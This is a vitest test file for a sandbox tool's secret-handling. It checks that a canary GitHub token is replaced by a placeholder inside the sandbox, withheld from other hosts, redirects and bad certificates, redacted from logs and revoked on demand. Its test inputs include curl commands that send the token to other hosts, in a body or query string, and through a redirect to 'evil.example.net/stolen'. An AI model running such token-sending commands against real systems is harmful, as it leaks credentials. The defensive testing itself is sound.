import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { filesWith, formsOf, searchInside, textWith } from "../support/network/canary.ts";
import { createInside, type Inside } from "../support/network/inside.ts";
import { useMachine } from "../support/network/run-in.ts";
import { stationMode } from "../support/station-modes.ts";

const machine = useMachine();
const seen = () => machine.internet.world.seen({ take: true });
const network = "api.example.com,git.example.com,other.example.com,evil.example.net,unknown-ca.example.com,wrong-name.example.com";
const guarded = "git.example.com,api.example.com,unknown-ca.example.com,wrong-name.example.com";
const scope = `GITHUB_TOKEN@${guarded};git;methods=GET|POST;paths=/canary|/repo.git|/echo|/redirect`;
/** A station at an address gets nothing from the caller's environment, so in this mode it stores the secret itself. */
const isKept = stationMode === "http";
const secret = isKept ? "GITHUB_TOKEN" : `${scope};from=env:RIG_CANARY`;
const own = () => (isKept ? {} : { env: { RIG_CANARY: machine.internet.canary } });
/** The only file that may contain the stored secret. */
const keptIn = () => (isKept ? [join(machine.home, "secrets", "local", "GITHUB_TOKEN.value")] : []);

/** The output of all commands. */
const outputs: string[] = [];
async function caisson(...argv: string[]) {
  const finished = await machine.run(argv, own());
  outputs.push(finished.stdout, finished.stderr);
  return finished;
}

describe("a canary secret (S01)", () => {
  let inside: Inside;
  let placeholder = "";
  beforeAll(async () => {
    if (isKept) expect(await machine.run(["secret", "set", scope], { input: machine.internet.canary })).toMatchObject({ code: 0 });
    inside = await createInside(machine, ["--allow-root", "--network", network, "--secret", secret], own());
  });
  const run = (script: string, ...options: string[]) => caisson("exec", ...options, "--sandbox", inside.id, "--", "sh", "-c", script);
  const sh = async (script: string) => {
    const finished = await run(script);
    expect(finished.code, `${script}\n${finished.stdout}${finished.stderr}`).toBe(0);
    return finished.stdout;
  };
  /** Returns the credential of each request that arrived. */
  const arrived = async () => (await seen()).requests.map(({ headers }) => headers.authorization ?? "none");

  test("is a placeholder of the same shape inside", async () => {
    placeholder = (await sh("echo $GITHUB_TOKEN")).trim();
    expect(placeholder).toMatch(/^ghp_\w{36}$/);
    expect(placeholder).not.toBe(machine.internet.canary);
  });

  test("reaches its server, and comes back as the placeholder", async () => {
    await seen();
    const response = await sh('curl -sSi -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.com/canary');
    expect(await arrived()).toEqual([`Bearer ${machine.internet.canary}`]);
    expect(response).toContain(`"authorization":"Bearer ${placeholder}"`);
    const basic = await sh("curl -sS -u x-access-token:$GITHUB_TOKEN https://api.example.com/echo");
    expect(await arrived()).toEqual([`Basic ${Buffer.from(`x-access-token:${machine.internet.canary}`).toString("base64")}`]);
    expect(basic).toContain(Buffer.from(`x-access-token:${placeholder}`).toString("base64").slice(0, -3));
    const python = `import os, urllib.request as u; print(u.urlopen(u.Request("https://api.example.com/canary", headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})).read())`;
    await sh(`python3 -c '${python}'`);
    await sh(
      `node -e 'fetch("https://api.example.com/canary", { headers: { authorization: process.env.GITHUB_TOKEN } }).then(r => r.text()).then(console.log)'`,
    );
    expect(await arrived()).toEqual([`token ${machine.internet.canary}`, machine.internet.canary]);
  });

  test("authenticates git push through git's own credential request", async () => {
    const url = machine.internet.repository("repo");
    await sh(`cd /home/user && git clone -q ${url} repo && cd repo && git config user.email a@example.com && git config user.name a &&
      echo changed > README && git commit -qam changed && git push -q origin HEAD:pushed`);
    expect((await machine.program(["git", "ls-remote", url])).stdout).toContain("refs/heads/pushed");
    // If the server refuses it, git reports that and nothing else.
    const refused = await run("cd /home/user/repo && git push -v https://git.example.com/private/none.git HEAD:x 2>&1");
    expect(refused.code).not.toBe(0);
  });

  test("is not sent to another host, method or path, or without TLS (N08)", async () => {
    await seen();
    const header = '-H "Authorization: Bearer $GITHUB_TOKEN"';
    const urls = [
      "https://other.example.com/canary",
      "http://api.example.com/canary",
      "https://api.example.com/elsewhere",
      "https://api.example.com/",
    ];
    for (const url of urls) await sh(`curl -sS ${header} ${url}`);
    await sh(`curl -sS ${header} -X PUT https://api.example.com/canary`);
    await sh(`curl -sS -d "$GITHUB_TOKEN" https://api.example.com/canary`);
    await sh(`curl -sS "https://api.example.com/canary?token=$GITHUB_TOKEN"`);
    const { requests } = await seen();
    expect(requests).toHaveLength(7);
    expect(textWith(JSON.stringify(requests), machine.internet.canary)).toEqual([]);
    expect(JSON.stringify(requests.slice(0, 5))).toContain(placeholder);
    expect((await caisson("net", "log", inside.id)).stdout).toMatch(
      /GITHUB_TOKEN withheld from api\.example\.com: its scope does not include this path/,
    );
  });

  test("does not follow a redirect to another host (N07)", async () => {
    await seen();
    const to = encodeURIComponent("https://evil.example.net/stolen");
    await sh(`curl -sSL --location-trusted -H "Authorization: Bearer $GITHUB_TOKEN" 'https://api.example.com/redirect?to=${to}'`);
    const { requests } = await seen();
    expect(requests.map(({ servername, headers }) => [servername, headers.authorization])).toEqual([
      ["api.example.com", `Bearer ${machine.internet.canary}`],
      ["evil.example.net", `Bearer ${placeholder}`],
    ]);
    const denied = encodeURIComponent("https://cdn.example.net/stolen");
    const result = await run(`curl -sSL -H "Authorization: Bearer $GITHUB_TOKEN" 'https://api.example.com/redirect?to=${denied}'`);
    expect(result.code).toBe(56);
    expect((await seen()).requests).toHaveLength(1);
  });

  test("is not sent to a server without a valid certificate", async () => {
    await seen();
    for (const host of ["unknown-ca.example.com", "wrong-name.example.com"]) {
      const { stdout } = await run(`curl -sSi -H "Authorization: Bearer $GITHUB_TOKEN" https://${host}/canary`);
      expect(stdout).toMatch(/^HTTP\/1\.1 502 .*[\s\S]*not_verified/m);
    }
    expect((await seen()).requests).toEqual([]);
  });

  test("leaves other TLS alone, and each sandbox has its own authority", async () => {
    const issuer = (host: string) =>
      `openssl s_client -proxy 127.0.0.1:19080 -connect ${host}:443 -servername ${host} </dev/null 2>/dev/null | openssl x509 -noout -issuer`;
    expect(await sh(issuer("other.example.com"))).toContain("Caisson test rig");
    expect(await sh(issuer("api.example.com"))).not.toContain("Caisson test rig");
    const other = await createInside(machine, ["--network", "GET api.example.com/x"]);
    const [own, theirs] = [await sh("cat /run/caisson/ca.pem"), await other.ok("cat /run/caisson/ca.pem")];
    expect(theirs).not.toBe(own);
    writeFileSync(join(machine.folder, "authority.pem"), own);
    const trusting = await machine.run(["cp", join(machine.folder, "authority.pem"), `${other.id}:/tmp/ca.pem`]);
    expect(trusting.code, trusting.stderr).toBe(0);
    expect(await other.ok("curl -sS -o /dev/null -w %{http_code} https://api.example.com/x")).toBe("200");
    expect((await other.sh("curl -sS --cacert /tmp/ca.pem https://api.example.com/x")).code).toBe(60);
    await other.remove();
  });

  test("is in no process, file, event, output or log, nor in the state folder", async () => {
    const forms = formsOf(machine.internet.canary).join("\n");
    for (const user of ["user", "root"]) {
      const argv = ["exec", "--sandbox", inside.id, "--user", user, "--", "python3", "-c", searchInside];
      const search = await machine.run(argv, { input: forms, ...own() });
      expect(search.stdout, search.stderr).toMatch(/^looked \d+\n$/);
      expect(Number(/\d+/.exec(search.stdout)?.[0])).toBeGreaterThan(20);
    }
    await caisson("net", "log", inside.id, "--json");
    await caisson("net", "show", inside.id, "--json");
    await caisson("sandbox", "ls", "--json");
    expect(outputs.length).toBeGreaterThan(30);
    expect(textWith(outputs.join("\n"), machine.internet.canary)).toEqual([]);
    expect(filesWith(machine.home, machine.internet.canary)).toEqual(keptIn());
    // Proves that the same search can find something.
    expect(filesWith(machine.home, placeholder)).not.toEqual([]);
  });

  test("is redacted in output and events if it leaks inside", async () => {
    // A program inside may learn it in another way, such as from one of the user's files.
    const { canary } = machine.internet;
    const leaked = await machine.run(
      ["exec", "--json", "--sandbox", inside.id, "--", "sh", "-c", `echo ${canary}; echo ${Buffer.from(canary).toString("base64")}`],
      own(),
    );
    expect(leaked.code).toBe(0);
    expect(textWith(leaked.stdout, canary)).toEqual([]);
    expect(leaked.stdout).toContain(`"text":"${placeholder}\\n`);
  });

  test("stops working within a second of being revoked (S05), even when in use", async () => {
    const loop = `while :; do curl -sS -o /dev/null -w '%{http_code}\\n' -H "Authorization: $GITHUB_TOKEN" https://api.example.com/canary; done`;
    const using = machine.start(["exec", "--sandbox", inside.id, "--", "sh", "-c", loop]);
    const keepAlive = `import http.client, os, time
c = http.client.HTTPSConnection("127.0.0.1", 19080); c.set_tunnel("api.example.com", 443)
while True:
    try:
        c.request("GET", "/canary?kept", headers={"Authorization": os.environ["GITHUB_TOKEN"]}); r = c.getresponse(); r.read(); print(r.status, flush=True)
    except Exception as error: print("broken", error, flush=True); break
    time.sleep(0.02)`;
    const keepAliveClient = machine.start(["exec", "--sandbox", inside.id, "--", "python3", "-c", keepAlive]);
    await Promise.all([using.says(/200\n200\n/), keepAliveClient.says(/200\n200\n/)]);
    expect((await caisson("net", "revoke", inside.id, "GITHUB_TOKEN")).code).toBe(0);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    await seen();
    await using.says(/502\n502\n/);
    const { requests } = await seen();
    expect(textWith(JSON.stringify(requests), machine.internet.canary)).toEqual([]);
    for (const started of [using, keepAliveClient]) started.child.kill("SIGTERM");
    expect((await keepAliveClient.finished).stdout).toMatch(/200\n(502|broken)/);
    await using.finished;
    expect((await run('curl -sS -H "Authorization: $GITHUB_TOKEN" https://api.example.com/canary')).stdout).toMatch(
      /GITHUB_TOKEN.*revoked/,
    );
    // It stays revoked in the next serving process.
    const { servedBy } = JSON.parse((await caisson("net", "show", inside.id, "--json")).stdout) as { servedBy: number };
    process.kill(servedBy, "SIGKILL");
    expect((await run('curl -sS -H "Authorization: $GITHUB_TOKEN" https://api.example.com/canary')).stdout).toMatch(
      /GITHUB_TOKEN.*revoked/,
    );
  });

  afterAll(async () => {
    await inside.remove();
    if (isKept) expect(await machine.run(["secret", "rm", "GITHUB_TOKEN"])).toMatchObject({ code: 0 });
    expect(filesWith(machine.home, machine.internet.canary)).toEqual([]);
  });
});

describe("the source of a secret", () => {
  test.runIf(stationMode === "http")("is not read for a remote station, and the error says what to do instead", async () => {
    for (const from of ["env:RIG_CANARY", "file:/nowhere/token", "command:cat /nowhere/token"]) {
      const options = ["--no-workspace", "--secret", `KEY@api.example.com;from=${from}`];
      expect(await machine.run(["exec", ...options, "--", "true"])).toMatchObject({
        code: 125,
        stderr: expect.stringMatching(
          /value of the secret KEY is on this machine[^\n]*\nhint: .*caisson secret set KEY@HOST.*--secret KEY/,
        ),
      });
    }
    expect(machine.sandboxes()).toEqual([]);
  });

  test("is a file or a program, and fails early without showing the value (S03)", async ({ skip }) => {
    skip(stationMode === "http", "a station at an address gets nothing from the caller's environment or files (tested beside it)");
    const { canary } = machine.internet;
    mkdirSync(machine.folder, { recursive: true });
    const file = join(machine.folder, "token");
    writeFileSync(file, `${canary}\n`, { mode: 0o600 });
    const call = 'curl -sS -o /dev/null -H "X-Key: $KEY" https://api.example.com/';
    for (const from of [`file:${file}`, `command:cat ${file}`]) {
      await seen();
      const ran = await machine.run([
        "exec",
        "--no-workspace",
        "--secret",
        `KEY@api.example.com;from=${from};header=X-Key`,
        "--",
        "sh",
        "-c",
        call,
      ]);
      expect(ran, ran.stderr).toMatchObject({ code: 0 });
      expect((await seen()).requests[0]?.headers["x-key"]).toBe(canary);
    }
    for (const from of ["file:/nowhere/token", "env:NOT_SET_ANYWHERE", "command:false", `command:sh -c 'echo ${canary} >&2; exit 1'`]) {
      const ran = await machine.run(["exec", "--no-workspace", "--secret", `KEY@api.example.com;from=${from}`, "--", "true"]);
      expect(ran.code, from).toBe(125);
      expect(ran.stderr, from).toMatch(/KEY/);
      expect(textWith(ran.stderr.replace(from, ""), canary), from).toEqual([]);
    }
    expect(machine.sandboxes()).toEqual([]);
    expect(filesWith(machine.home, canary)).toEqual([]);
  });
});
